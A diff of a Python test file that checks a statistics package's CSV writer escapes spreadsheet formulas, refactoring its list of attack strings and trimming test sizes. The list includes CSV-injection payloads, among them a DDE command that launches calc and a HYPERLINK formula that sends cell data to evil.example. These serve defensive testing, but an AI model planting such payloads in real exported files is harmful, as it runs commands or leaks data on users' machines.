@@ -23,51 +23,30 @@ from silomix.model.draws import Correspondence, SiloWeights
 from silomix.model.reading import read_table
 from silomix.model.schema import Schema, Variable
 from silomix.model.spreadsheet import for_spreadsheet, from_spreadsheet
-from silomix.report.results_folder import write_posterior, write_silo, write_table
+from silomix.report.results_folder import write_posterior, write_table
 
 CALC = "=cmd|' /C calc'!A0"
-ATTACKS = [
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\tx",
-    "\rx",
-    " =1+1",
-    "\u00a0=1+1",
-    "\ufeff=1+1",
-    "\u200b=1+1",
-    "\x00=1+1",
-    "'=1+1",
-    '"=1+1',
-    '" =1+1"',
-    "\uff1d1+1",
-    "\uff0b1+1",
-    "\uff0d1+1",
-    "\uff20SUM(1)",
-    "\ufe661+1",
-    "\u22121+1",
-    "a;=1+1",
-    "a,=1+1",
-    "a|=1+1",
-    "a\t=1+1",
-    "a\r=1+1",
-    "a\n=1+1",
-    "a\u2028=1+1",
-    "a;; =1+1",
-    'a";"=1+1',
-    "a;'=1+1",
-    "a\uff1b\uff1d1+1",
-    "a;-",
-    "a;-1",
-    "a;+ve",
-    "-1,5+cmd|' /C calc'!A0",
-    CALC,
-    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+UNSEEN = [
+    "",
+    "\t",
+    "\r",
+    "\n",
+    " ",
+    "\u00a0",
+    "\ufeff",
+    "\u200b",
+    "\x00",
+    "'",
+    '"',
+    "a;",
+    "a,",
+    "a|",
 ]
+UNSEEN += ["a\t", "a\r", "a\n", "a\u2028", "a;; ", 'a";"', "a;'"]
+SIGNS = ["+", "-", "\uff1d", "\uff0b", "\uff0d", "\ufe66", "\u2212", "a\uff1b\uff1d"]
+ATTACKS = [f"{before}=1+1" for before in UNSEEN] + [f"{sign}1+1" for sign in SIGNS]
+ATTACKS += ["@SUM(1)", "\uff20SUM(1)", "\tx", "\rx", '" =1+1"', "a;-", "a;-1", "a;+ve", CALC]
+ATTACKS += ["-1,5+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")']
 PLAIN = ["", "a", "1-2", "'a", "a=b", "a@b", "a - b", "COPD; severe", "'tis", "1;2", "a b"]
 NUMBERS = ["-", "+", "- ", "-1", "+1.5", "-1,5", "-.5", "-1e-5", "-5%", "1", "0.5", "(-10, -5]"]
 
@@ -123,6 +102,7 @@ def test_other_texts_and_numbers_stay_as_they_are(text):
 )
 def test_where_the_apostrophes_stand(text, written):
     assert for_spreadsheet(text) == written
+    assert from_spreadsheet(text) == text or text.startswith("'")  # what was never guarded
 
 
 def test_a_line_does_not_begin_with_a_sign():
@@ -132,12 +112,7 @@ def test_a_line_does_not_begin_with_a_sign():
     assert for_spreadsheet("1", first=True) == "1"
 
 
-def test_texts_that_were_never_guarded_are_read_as_they_are():
-    assert from_spreadsheet("=1+1") == "=1+1"
-    assert from_spreadsheet("'tis") == "'tis"
-
-
-@settings(max_examples=2000)
+@settings(max_examples=600)
 @given(TEXTS)
 @example("'\t'=1")
 @example("\t-5")
@@ -166,7 +141,7 @@ MISSING = {"", "NA", "NaN"}
 """What our reader takes for a missing cell, whoever wrote it."""
 
 
-@settings(max_examples=300)
+@settings(max_examples=60, deadline=None)
 @given(rows=st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4), heading=TEXTS)
 def test_every_table_comes_back(rows, heading, tmp_path_factory):
     path = tmp_path_factory.getbasetemp() / "every-table.csv"
@@ -251,9 +226,7 @@ def evil(seed):
             SILOS, match.groups, match.sizes, match.method, match.confidence
         ),
         silo_weights=SiloWeights(SILOS, made.silo_weights.weights, made.silo_weights.profiles),
-        provenance=dataclasses.replace(
-            made.provenance, silos=SILOS, sent={name: {} for name in SILOS}
-        ),
+        provenance=dataclasses.replace(made.provenance, silos=SILOS, sent={s: {} for s in SILOS}),
     )
 
 
@@ -280,18 +253,6 @@ def test_the_files_of_a_fit_have_no_formulas(evil, tmp_path):
         assert set(column(file, "silo")) == set(SILOS)
 
 
-def test_the_files_of_one_silo_have_no_formulas(tmp_path, seed):
-    rng = np.random.default_rng(seed)
-    table = pd.DataFrame({v.name: rng.choice(v.levels, 60) for v in EVIL.variables})
-    draws = silomix.sample(table, iterations=60, threads=1, progress=False)
-    posterior = silomix.local_posterior(draws, partition=rng.integers(0, 2, 60), relabel="average")
-    write_silo(tmp_path, "north", posterior)
-    for path in tmp_path.glob("*.csv"):
-        check_cells(path)
-    back = read_table(tmp_path / "profiles.csv").to_native()
-    assert set(back["variable"]) == set(table.columns)
-
-
 def test_the_commands_write_no_formulas(tmp_path, monkeypatch, seed):
     rng = np.random.default_rng(seed)
     monkeypatch.chdir(tmp_path)
@@ -300,10 +261,12 @@ def test_the_commands_write_no_formulas(tmp_path, monkeypatch, seed):
     table["id"] = [f"{ATTACKS[row % len(ATTACKS)]}{row}" for row in range(80)]
     table["@ward;x"] = rng.choice(["=w", "a;-", "-1"], 80)
     write_table(table, tmp_path / "table.csv")
-    fit = ["fit", "table.csv", "--silo", "silo", "--id", "id", "--outside", "@ward;x"]
-    fit += ["--iterations", "60", "--components", "3", "--out", "results", "--threads", "1"]
-    assign = ["assign", "results", "table.csv", "--silo", "silo", "--id", "id", "--out", "l.csv"]
-    for command in (fit, assign):
+    own = ["table.csv", "--silo", "silo", "--id", "id"]
+    quick = ["--iterations", "60", "--threads", "1", "--out"]
+    fit = ["fit", *own, "--outside", "@ward;x", "--components", "3", *quick, "results"]
+    assign = ["assign", "results", *own, "--out", "l.csv"]
+    sample = ["sample", "table.csv", "--exclude", "id", *quick, "one"]
+    for command in (fit, assign, sample):
         result = CliRunner().invoke(cli.app, command)
         assert result.exit_code == 0, result.output
     files = [*tmp_path.rglob("*.csv")]
